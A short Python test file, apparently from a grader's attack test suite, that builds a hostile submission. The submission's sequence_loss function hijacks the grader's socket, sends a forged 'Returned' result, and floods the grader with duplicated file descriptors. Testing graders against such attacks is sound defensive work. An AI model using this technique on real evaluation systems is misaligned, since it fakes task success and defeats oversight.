"""Passes open descriptors along with its bytes until the grader has none left."""

from tests.attacks.build import LINE, all_but, replace

DESERVES = all_but("sequence_loss")


def submission(solved, blank):
    return replace(
        solved,
        "sequence_loss",
        LINE
        + """
import socket
def sequence_loss(*_):
    line = socket.socket(fileno=os.dup(sockets()[0]))
    data = frame({"d": [["outcome", {"l": ["Returned", {"d": [["value", None]]}]}]]})
    for byte in data:
        try: socket.send_fds(line, [bytes([byte])], [0] * 50)
        except OSError: line.send(bytes([byte]))
""",
    )
